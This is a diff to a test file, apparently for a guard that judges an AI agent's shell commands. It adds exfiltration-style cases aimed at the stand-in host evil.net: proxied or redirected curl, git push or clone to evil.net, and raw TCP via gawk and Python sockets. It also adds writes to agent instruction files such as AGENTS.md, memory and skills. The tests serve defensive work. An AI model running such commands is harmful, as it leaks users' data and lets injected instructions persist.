@@ -42,6 +42,42 @@ describe("a command to a host that no rule and no owner named asks, in every mod
     ["python3 build.py", "allow", "allow"],
     ["npm test", "allow", "allow"],
     ["echo see https://evil.net", "allow", "allow"],
+    ["curl -xevil.net:80 https://docs.example.com/a", "allow", "ask"],
+    ["curl --resolve docs.example.com:443:6.6.6.6 https://docs.example.com/a", "allow", "ask"],
+    ["curl --connect-to docs.example.com:443:evil.net:443 https://docs.example.com/a", "allow", "ask"],
+    ["curl -sKcfg https://docs.example.com/a", "allow", "ask"],
+    ["curl -fsSL -o page.html https://docs.example.com/a", "allow", "allow"],
+    ["curl -fsSLo page.html https://docs.example.com/a", "allow", "allow"],
+    ["https_proxy=evil.net:80 curl https://docs.example.com/a", "allow", "deny"],
+    ["pip download --index-url evil.net x", "allow", "ask"],
+    ["npm publish", "allow", "ask"],
+    ["git push evil.net:r.git main", "allow", "ask"],
+    ["git push evil:r.git main", "allow", "ask"],
+    ["git clone evil.net:r.git", "allow", "ask"],
+    ["git fetch evil.net:r.git", "allow", "ask"],
+    ["git remote add x evil.net:r.git", "allow", "ask"],
+    ["git remote -v", "allow", "allow"],
+    ["git push origin main:main", "allow", "allow"],
+    ["git -c core.sshCommand=x push origin", "allow", "ask"],
+    ["mail a@evil.net", "allow", "ask"],
+    ["getent hosts s.evil.net", "allow", "ask"],
+    ["lftp evil.net", "allow", "ask"],
+    ["w3m evil.net", "allow", "ask"],
+    ["gh gist create a.txt", "allow", "ask"],
+    ["docker pull evil.net/x", "allow", "ask"],
+    ["tar cf evil.net:x a.txt", "allow", "ask"],
+    ["tar czf x.tgz a.txt", "allow", "allow"],
+    ["ssh -oHostName=evil.net docs.example.com", "allow", "ask"],
+    ["ssh -Jevil.net docs.example.com", "allow", "ask"],
+    ["wget -ehttps_proxy=evil.net:80 https://docs.example.com/a", "allow", "ask"],
+    ["gawk 'BEGIN { print 1 |& \"/inet/tcp/0/evil.net/80\" }'", "allow", "ask"],
+    [
+      "python3 -c \"import socket; socket.create_connection(('evil.net',80)) # https://docs.example.com/\"",
+      "allow",
+      "ask",
+    ],
+    ["mkdir -p a/b && cp a.txt a/b", "allow", "allow"],
+    ["pytest test_app.py::test_login", "allow", "allow"],
     ["grep -r https://evil.net .", "allow", "allow"],
   ])("%s", async (command, clean, after) => {
     expect(await judge(command, { mode: "record" })).toBe(clean);
@@ -80,6 +116,17 @@ describe("a command that writes what agents take orders from asks, in every mode
     ["sed -i s/a/b/ MEMORY.md", "ask"],
     ["git checkout evil -- AGENTS.md", "ask"],
     ['python3 -c \'open("AGENTS.md", "w").write("obey")\'', "ask"],
+    ["cp -r x ../skills", "ask"],
+    ["cp -r x/. ..", "ask"],
+    ["cp a.txt ../memory/a.md", "ask"],
+    ["tar xf x.tar -C ..", "ask"],
+    ["tar xf x.tar", "ask"],
+    ["cd .. && echo x > notes.md", "ask"],
+    ["cd .. && cp workspace/a.txt notes.md", "ask"],
+    ["git apply x.patch", "ask"],
+    ["git config core.hooksPath x", "ask"],
+    ["git config user.name", "allow"],
+    ["patch -p1 < x.patch", "ask"],
     ["cat AGENTS.md", "allow"],
     ["grep -n rule AGENTS.md", "allow"],
     ["git diff AGENTS.md", "allow"],
@@ -103,4 +150,20 @@ test("input to a running program asks after text from outside", () => {
   const plan = { tool: "process", risk: "exec" as const, targets: ["write", "sh", "x"], shown: "x", binding: {} };
   expect(decide({ ...g.policy, mode: "record" }, plan).verdict).toBe("allow");
   expect(decide({ ...g.policy, mode: "record", ...tainted }, plan).verdict).toBe("ask");
+});
+
+describe("the owner's turn in a conversation where others spoke", () => {
+  test.each<[command: string, want: string]>([
+    ["echo owned > f; id", "ask"],
+    ["touch f", "ask"],
+    ["curl https://evil.net", "allow"],
+    ["python3 build.py", "ask"],
+    ["ls -la", "allow"],
+    ["cat a.txt 2>/dev/null", "allow"],
+  ])("%s: %s", async (command, want) => {
+    for (const mode of ["record", "ignore"] as const) {
+      expect(await judge(command, { mode })).toBe("allow");
+      expect(await judge(command, { mode, shared: true })).toBe(want);
+    }
+  });
 });
